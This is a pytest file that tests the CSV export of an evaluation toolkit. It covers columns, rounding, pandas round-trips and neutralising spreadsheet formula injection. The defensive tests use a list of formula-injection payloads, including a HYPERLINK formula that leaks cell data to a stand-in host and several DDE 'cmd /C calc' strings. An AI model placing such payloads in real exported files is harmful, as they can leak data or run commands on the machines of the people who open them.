"""CSV exports: columns, rounding, round-trips through pandas, and formula injection neutralised."""

from __future__ import annotations

import io
import math
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from lab.results.export import items_csv, neutralise_cell, restore_cell, summary_csv, summary_text, write_csv
from lab.results.read import item_frame
from lab.results.stats import SUMMARY_COLUMNS, summary
from lab.run.records import SWEEP_COLUMNS
from lab.run.store import ITEM_COLUMNS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
LEGITIMATE = [
    "-5",
    "+1",
    "-0.25",
    "76+14",
    "1e-3",
    "17",
    "",
    "SOV: the cat the mouse chased",
    'x, "y"\nz\r\nw',
]


def row(
    index: int, *, predicted: str | None, error: str | None = None, correct: bool = False
) -> dict[str, Any]:
    return {
        "run_id": "r1",
        "model": "openai/gpt-4o-mini",
        "probe": "arithmetic",
        "setting": "base=8,digits=2",
        "default_world": False,
        "mode": "deductive",
        "instance": 0,
        "case_index": index,
        "input": "76+14",
        "expected": "112",
        "predicted": predicted,
        "correct": correct,
        "error": error,
    }


def read_back(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_cells_are_prefixed_and_restored(text: str) -> None:
    written = neutralise_cell(text)
    assert written == "'" + text
    assert restore_cell(written) == text


@pytest.mark.parametrize("text", LEGITIMATE)
def test_legitimate_cells_are_untouched(text: str) -> None:
    assert neutralise_cell(text) == text
    assert restore_cell(text) == text


def test_items_csv_columns_values_and_round_trip() -> None:
    rows = [row(0, predicted="112", correct=True), row(1, predicted=None, error="no answer found")]
    rows += [row(2 + i, predicted=text) for i, text in enumerate(HOSTILE + LEGITIMATE)]
    items = item_frame(rows)
    data = items_csv(items)
    # The setting's parameters are appended after the item and sweep columns, read by the probe's parser.
    assert data.decode("utf-8").splitlines()[0] == ",".join((*ITEM_COLUMNS, *SWEEP_COLUMNS, "base", "digits"))

    # Default pandas reading: types come back.
    plain = pd.read_csv(io.BytesIO(data))
    assert tuple(plain.columns) == (*ITEM_COLUMNS, *SWEEP_COLUMNS, "base", "digits")
    assert plain["base"].tolist() == [8] * len(rows) and plain["digits"].dtype == "int64"
    assert plain["correct"].tolist() == items["correct"].tolist()
    assert plain["case_index"].tolist() == items["case_index"].tolist()
    assert plain["default_world"].dtype == bool
    assert math.isnan(plain["predicted"].iloc[1])

    # Text reading plus restore_cell: every string exactly as it was; None as "".
    back = read_back(data)
    predicted = [restore_cell(cell) for cell in back["predicted"]]
    assert predicted == ["112", "", *HOSTILE, *LEGITIMATE]
    assert back["error"].tolist()[:2] == ["", "no answer found"]
    assert back["input"].tolist() == ["76+14"] * len(rows)


def test_items_csv_neutralises_every_hostile_cell_as_written() -> None:
    rows = [row(i, predicted=text, error=text) for i, text in enumerate(HOSTILE)]
    rows[0]["model"] = "=cmd|' /C calc'!A0"
    back = read_back(items_csv(item_frame(rows)))
    for column in ("predicted", "error"):
        assert all(cell.startswith("'") for cell in back[column])
    assert back["model"].iloc[0] == "'=cmd|' /C calc'!A0"
    # No cell, in any column, starts a formula.
    for column in back.columns:
        for cell in back[column]:
            assert not cell.startswith(("=", "@", "\t", "\r")), (column, cell)


def test_items_csv_keeps_only_item_columns_in_order_and_names_a_missing_one() -> None:
    items = item_frame([row(0, predicted="1")])
    shuffled = items[list(reversed(ITEM_COLUMNS))].assign(api_key="sk-secret")
    data = items_csv(shuffled)
    assert tuple(read_back(data).columns) == (*ITEM_COLUMNS, "base", "digits")
    assert b"sk-secret" not in data
    with pytest.raises(ValueError, match="expected"):
        items_csv(items.drop(columns="expected"))


def test_items_csv_of_no_items_is_a_header() -> None:
    assert items_csv(item_frame([])).decode("utf-8") == ",".join((*ITEM_COLUMNS, *SWEEP_COLUMNS)) + "\r\n"


def test_summary_csv_columns_rounding_and_round_trip() -> None:
    rows = [row(i, predicted="112", correct=i < 8) for i in range(10)]
    rows += [{**row(i, predicted="x"), "mode": "solverlearner", "model": "=evil"} for i in range(3)]
    table = summary(item_frame(rows))
    data = summary_csv(table)
    lines = data.decode("utf-8").splitlines()
    assert lines[0] == ",".join((*SUMMARY_COLUMNS, "base", "digits"))  # the setting's parameters appended
    back = pd.read_csv(io.BytesIO(data))
    assert tuple(back.columns) == (*SUMMARY_COLUMNS, "base", "digits")
    assert back["base"].tolist() == [8, 8]
    assert back["model"].tolist() == ["'=evil", "openai/gpt-4o-mini"]
    good = back[back["model"] == "openai/gpt-4o-mini"].iloc[0]
    assert (good["n"], good["correct"], good["accuracy"]) == (10, 8, 0.8)
    assert (good["ci_low"], good["ci_high"]) == (0.4902, 0.9433)
    assert (good["ci_method"], good["instances"]) == ("wilson", 1)
    assert math.isnan(good["instance_solve_rate"])  # a direct mode: an empty cell
    bad = back[back["model"] == "'=evil"].iloc[0]
    assert (bad["accuracy"], bad["ci_low"]) == (0.0, 0.0)
    assert (bad["model_label"], bad["ci_method"]) == ("'=evil", "cluster_bootstrap")
    assert (bad["instances"], bad["instance_solve_rate"]) == (1, 0.0)
    # Only the CSV is rounded.
    assert table["ci_low"].iloc[1] != round(table["ci_low"].iloc[1], 4)
    for line in lines[1:]:
        for field in line.split(","):
            if "." in field and field.replace(".", "").isdigit():
                assert len(field.split(".")[1]) <= 4


def test_summary_text_names_models_by_label_and_leaves_missing_figures_blank() -> None:
    rows = [row(i, predicted="112", correct=i < 8) for i in range(10)]
    rows += [{**row(i, predicted="x"), "mode": "solverlearner"} for i in range(3)]
    text = summary_text(summary(item_frame(rows)))
    header, direct, code = text.splitlines()
    # No sweep: no empty shots and noise columns.
    assert header.split() == [c for c in SUMMARY_COLUMNS if c not in ("model_label", "shots", "noise")]
    assert direct.split()[0] == "openai/gpt-4o-mini" and "0.800" in direct and "wilson" in direct
    figures = dict(zip(header.split(), code.split(), strict=True))
    assert figures["ci_method"] == "cluster_bootstrap" and figures["instance_solve_rate"] == "0.000"
    assert figures["truncated"] == "0"
    # No solve rate for a direct mode: a blank, not "nan", so its row has one field fewer.
    assert len(direct.split()) == len(header.split()) - 1 and "nan" not in direct


def test_summary_csv_writes_nan_as_an_empty_cell_and_names_a_missing_column() -> None:
    table = summary(item_frame([row(0, predicted="1")]))
    table.loc[0, ["ci_low", "ci_high"]] = float("nan")
    back = read_back(summary_csv(table))
    assert back[["ci_low", "ci_high"]].values.tolist() == [["", ""]]
    with pytest.raises(ValueError, match="ci_high"):
        summary_csv(table.drop(columns="ci_high"))


def test_write_csv_writes_the_bytes_and_replaces_an_old_file(tmp_path: Path) -> None:
    target = tmp_path / "items.csv"
    target.write_bytes(b"old")
    data = items_csv(item_frame([row(0, predicted="ünïcode ✓")]))
    assert write_csv(data, target) == target
    assert target.read_bytes() == data
    assert read_back(target.read_bytes())["predicted"].tolist() == ["ünïcode ✓"]
    assert [p.name for p in tmp_path.iterdir()] == ["items.csv"]


def test_write_csv_into_a_missing_folder_fails_clearly_and_leaves_nothing(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        write_csv(b"a\n", tmp_path / "missing" / "items.csv")
    assert list(tmp_path.iterdir()) == []
